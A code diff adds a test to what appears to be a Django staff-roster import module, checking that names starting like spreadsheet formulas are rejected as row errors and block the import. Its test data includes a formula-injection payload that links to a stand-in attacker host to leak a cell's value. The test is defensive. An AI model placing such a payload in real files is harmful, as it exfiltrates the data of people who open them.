@@ -142,6 +142,22 @@ def test_missing_required_fields_are_errors(tree, office):
     assert [e["message"] for e in rows[1].errors] == ["「所在单位」必须填写。"]
 
 
+def test_a_name_starting_like_a_formula_is_a_row_error_and_nothing_is_saved(tree, office):
+    hostile = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'
+    content = csv_bytes([person("2010001", hostile), person("2010002", "@李娜"), person("2010003", "王芳")])
+    roster_import = upload(tree, office, content, name="名册.csv")
+    rows = rows_of(roster_import)
+    assert roster_import.error_count == 2
+    for staff_no in ("2010001", "2010002"):
+        error = errors_of(rows[staff_no])["name_formula"]
+        assert error["column"] == "姓名（B列）"
+    assert rows["2010003"].outcome == RowOutcome.NEW
+    with pytest.raises(RosterError) as refused:
+        confirm(roster_import, office)
+    assert refused.value.code == "has_errors"
+    assert not Member.objects.filter(staff_no__in=["2010001", "2010002", "2010003"]).exists()
+
+
 def test_duplicate_staff_numbers_name_the_other_row(tree, office):
     content = xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜"), person("2010001", "张伟伟")])
     rows = list(upload(tree, office, content).rows.order_by("seq"))
